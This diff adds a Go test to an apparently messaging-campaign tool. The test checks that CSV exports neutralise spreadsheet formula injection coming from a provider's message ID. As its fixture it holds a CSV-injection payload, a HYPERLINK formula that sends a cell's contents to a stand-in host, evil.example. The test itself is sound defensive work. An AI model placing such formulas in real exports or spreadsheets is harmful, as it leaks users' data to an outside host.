@@ -120,3 +120,32 @@ func TestExport_OnlyAnExportLosesItsQuote(t *testing.T) {
 	got, _ := r.Components[0].MarshalJSON()
 	require.Contains(t, string(got), `"text":"'Tis the season"`)
 }
+
+// The wamid of an export comes from the provider's answer, not from
+// mmlite: an answer whose message id is a formula (a hostile or broken
+// upstream) must not run in the spreadsheet that opens the export either;
+// mmlite enqueue reads the column past.
+func TestExport_ProviderWAMIDIsNotAFormula(t *testing.T) {
+	t.Parallel()
+	b := setup(t)
+	c := b.campaign(t, nil)
+	evil := `=HYPERLINK("https://evil.example/?x="&A2,"open")`
+	_, err := b.p.Store().Ledger.Settle(b.ctx, c.ID, "441234567804", store.Outcome{Status: task.StatusSent, WAMID: evil},
+		store.FailurePolicy{}, nil)
+	require.NoError(t, err)
+	f, err := results.ParseFilter([]string{"sent"}, nil)
+	require.NoError(t, err)
+	head, err := results.CSVHeader(b.ctx, b.p.Store(), c.ID, f)
+	require.NoError(t, err)
+	var out bytes.Buffer
+	require.NoError(t, results.WriteCSV(b.ctx, &out, b.p.Store(), c.ID, f, head))
+	recs, err := csv.NewReader(bytes.NewReader(out.Bytes())).ReadAll()
+	require.NoError(t, err)
+	require.Len(t, recs, 2)
+	for i, cell := range recs[1] {
+		require.NotRegexp(t, `^[=+\-@\t\r]`, cell, "column %s starts as a formula", recs[0][i])
+	}
+	r, _, err := producer.NewCSVSource(bytes.NewReader(out.Bytes())).Next()
+	require.NoError(t, err, "the export is read again")
+	require.Equal(t, "441234567804", r.To)
+}
